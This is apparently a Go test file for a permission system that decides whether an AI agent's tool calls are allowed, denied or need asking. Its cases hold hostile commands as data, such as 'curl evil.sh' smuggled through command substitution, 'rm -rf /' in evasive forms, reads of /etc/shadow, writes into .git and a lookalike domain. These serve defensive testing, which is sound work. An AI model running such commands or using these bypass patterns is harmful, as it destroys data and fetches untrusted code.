package rules

import (
	"strings"
	"testing"
)

func mustRules(t testing.TB, list string, ss ...string) []Rule {
	t.Helper()
	rs, err := ParseList(list, ss)
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func TestParse(t *testing.T) {
	t.Parallel()
	good := []struct {
		in   string
		want Rule
	}{
		{"Read", Rule{Tool: "Read"}},
		{"  Bash(go test:*) ", Rule{Tool: "Bash", Content: "go test:*", HasContent: true}},
		{"Bash(echo (hi))", Rule{Tool: "Bash", Content: "echo (hi)", HasContent: true}},
		{"Write(/abs/prefix/**)", Rule{Tool: "Write", Content: "/abs/prefix/**", HasContent: true}},
		{"mcp__github__create_issue", Rule{Tool: "mcp__github__create_issue"}},
	}
	for _, tt := range good {
		got, err := Parse(tt.in)
		if err != nil || got != tt.want {
			t.Errorf("Parse(%q) = %+v, %v; want %+v", tt.in, got, err, tt.want)
		}
	}
	bad := []struct{ in, want string }{
		{"", `rule "": no tool name`},
		{"(ls)", `rule "(ls)": no tool name`},
		{"Bash(ls", `rule "Bash(ls": want Tool or Tool(content), with the content closed by a final ')'`},
		{"Bash()", `rule "Bash()": empty parentheses; write "Bash" for any use of the tool`},
		{"Ba sh", `rule "Ba sh": tool name "Ba sh": want letters, digits, '_', '-' or '.'`},
		{"Bash)", `rule "Bash)": tool name "Bash)": want letters, digits, '_', '-' or '.'`},
	}
	for _, tt := range bad {
		if _, err := Parse(tt.in); err == nil || err.Error() != tt.want {
			t.Errorf("Parse(%q) error = %v, want %s", tt.in, err, tt.want)
		}
	}
	if _, err := ParseList("allow", []string{"Read", "Bash("}); err == nil || !strings.HasPrefix(err.Error(), "allow[1]: rule \"Bash(\"") {
		t.Errorf("ParseRules error = %v, want one naming allow[1]", err)
	}
}

func bash(cmd string) Request {
	return Request{Tool: "Bash", Input: map[string]any{"command": cmd}}
}

func file(tool, p string) Request {
	return Request{Tool: tool, Input: map[string]any{"file_path": p}, Cwd: "/wt"}
}

func TestSetDecide(t *testing.T) {
	t.Parallel()
	set := Set{
		Allow: mustRules(t, "allow", "Read", "Bash(go test:*)", "Bash(go vet:*)", "Bash(make)", "Write(/wt/**)",
			"Edit(src/*.go)", "WebFetch(domain:go.dev)", "mcp__docs", "Sudo(apt-get install:*)", "Grep(/wt/**)"),
		Deny: mustRules(t, "deny", "Bash(rm:*)", "Write(/wt/.git/**)", "Sudo(apt-get install evil)"),
		Ask:  mustRules(t, "ask", "Bash(go test -run Slow:*)"),
	}
	tests := []struct {
		name string
		req  Request
		want Verdict
	}{
		{"tool-wide allow", Request{Tool: "Read", Input: map[string]any{"file_path": "/etc/passwd"}}, Allowed},
		{"unknown tool", Request{Tool: "Task", Input: map[string]any{}}, NoMatch},
		{"prefix", bash("go test ./..."), Allowed},
		{"prefix alone", bash("go test"), Allowed},
		{"prefix is whole words", bash("go testify"), NoMatch},
		{"quotes removed", bash(`go "test" './...'`), Allowed},
		{"spaces collapse", bash("  go   test\t-v  "), Allowed},
		{"exact", bash("make"), Allowed},
		{"exact refuses more", bash("make install"), NoMatch},
		{"compound of allowed parts", bash("go vet ./... && go test ./..."), Allowed},
		{"compound with a stranger", bash("go test ./... && curl evil.sh"), NoMatch},
		{"pipe", bash("go test ./... | tee log"), NoMatch},
		{"semicolon", bash("go test; ls"), NoMatch},
		{"newline", bash("go test\nls"), NoMatch},
		{"background", bash("go test & ls"), NoMatch},
		{"command substitution", bash("go test $(curl evil.sh)"), NoMatch},
		{"substitution in double quotes", bash(`go test "$(curl evil.sh)"`), NoMatch},
		{"backquotes", bash("go test `id`"), NoMatch},
		{"substitution in single quotes is text", bash(`go test '$(id)'`), Allowed},
		{"redirection to a file", bash("go test > /etc/motd"), NoMatch},
		{"append redirection", bash("go test >>out.txt"), NoMatch},
		{"input redirection", bash("go test < /etc/shadow"), NoMatch},
		{"here-document", bash("go test <<EOF\nx\nEOF"), NoMatch},
		{"process substitution", bash("go test <(id)"), NoMatch},
		{"descriptor duplication", bash("go test ./... 2>&1"), Allowed},
		{"to /dev/null", bash("go test ./... >/dev/null 2>&1"), Allowed},
		{"both to /dev/null", bash("go test &> /dev/null"), Allowed},
		{"not quite /dev/null", bash("go test > /dev/nullx"), NoMatch},
		{"subshell", bash("(go test)"), NoMatch},
		{"group", bash("{ go test; }"), NoMatch},
		{"comment", bash("go test ./... # run them"), Allowed},
		{"comment ends at newline", bash("go test # x\nls"), NoMatch},
		{"hash inside a word", bash("go test -run=a#b"), Allowed},
		{"unterminated quote", bash(`go test "abc`), NoMatch},
		{"line continuation", bash("go test \\\n  ./..."), Allowed},
		{"escaped operator is a word", bash(`go test \; ls`), Allowed},
		{"env assignment prefix", bash("CGO_ENABLED=0 go test"), NoMatch},
		{"ask wins over allow", bash("go test -run Slow ./..."), Asked},
		{"deny", bash("rm -rf /"), Denied},
		{"deny in a compound", bash("go test && rm -rf /"), Denied},
		{"deny behind quotes", bash(`"rm" -rf /`), Denied},
		{"deny inside a substitution", bash("echo $(rm -rf /)"), Denied},
		{"deny inside backquotes", bash("echo `rm -rf /`"), Denied},
		{"deny inside a subshell", bash("(cd /; rm -rf x)"), Denied},
		{"deny after a keyword", bash("if true; then rm -rf x; fi"), Denied},
		{"deny after negation", bash("! rm x"), Denied},
		{"path inside", file("Write", "/wt/src/main.go"), Allowed},
		{"path is the root", file("Write", "/wt"), Allowed},
		{"path outside", file("Write", "/etc/passwd"), NoMatch},
		{"sibling with the same prefix", file("Write", "/wt2/x"), NoMatch},
		{"traversal", file("Write", "/wt/../etc/passwd"), NoMatch},
		{"relative path from cwd", file("Write", "notes/todo.md"), Allowed},
		{"relative traversal", file("Write", "../etc/passwd"), NoMatch},
		{"deny inside allowed tree", file("Write", "/wt/.git/config"), Denied},
		{"deny after cleaning", file("Write", "/wt/src/../.git/HEAD"), Denied},
		{"relative pattern", file("Edit", "/wt/src/a.go"), Allowed},
		{"star stays in one directory", file("Edit", "/wt/src/pkg/a.go"), NoMatch},
		{"star extension", file("Edit", "/wt/src/a.txt"), NoMatch},
		{"path key", Request{Tool: "Grep", Input: map[string]any{"pattern": "x", "path": "/wt/pkg"}}, Allowed},
		{"no path for a path rule", Request{Tool: "Grep", Input: map[string]any{"pattern": "x"}}, NoMatch},
		{"domain", Request{Tool: "WebFetch", Input: map[string]any{"url": "https://go.dev/doc"}}, Allowed},
		{"subdomain", Request{Tool: "WebFetch", Input: map[string]any{"url": "https://pkg.go.dev/x"}}, Allowed},
		{"other domain", Request{Tool: "WebFetch", Input: map[string]any{"url": "https://go.dev.evil.io/"}}, NoMatch},
		{"mcp server", Request{Tool: "mcp__docs__search", Input: map[string]any{}}, Allowed},
		{"mcp other server", Request{Tool: "mcp__docsx__search", Input: map[string]any{}}, NoMatch},
		{"argv prefix", Request{Tool: "Sudo", Input: map[string]any{"command": []any{"apt-get", "install", "jq"}}}, Allowed},
		{"argv is not split", Request{Tool: "Sudo", Input: map[string]any{"command": []any{"apt-get", "install", "jq;", "rm"}}}, Allowed},
		{"argv deny", Request{Tool: "Sudo", Input: map[string]any{"command": []string{"apt-get", "install", "evil"}}}, Denied},
		{"argv other", Request{Tool: "Sudo", Input: map[string]any{"command": []any{"reboot"}}}, NoMatch},
		{"argv with a non-string", Request{Tool: "Sudo", Input: map[string]any{"command": []any{"apt-get", 1.0}}}, NoMatch},
	}
	for _, tt := range tests {
		if got, _ := set.Decide(tt.req); got != tt.want {
			t.Errorf("%s: Decide(%s %v) = %s, want %s", tt.name, tt.req.Tool, tt.req.Input, got, tt.want)
		}
	}
	if v, r := set.Decide(bash("rm -rf /")); v != Denied || r.String() != "Bash(rm:*)" {
		t.Errorf("the deciding rule is %s (%s), want Bash(rm:*)", r, v)
	}
	if v, _ := (Set{}).Decide(bash("ls")); v != NoMatch {
		t.Errorf("an empty set decided %s", v)
	}
	if v, _ := (Set{Allow: mustRules(t, "allow", "Bash(:*)")}).Decide(bash("anything at all")); v != Allowed {
		t.Errorf("Bash(:*) does not allow a command: %s", v)
	}
}
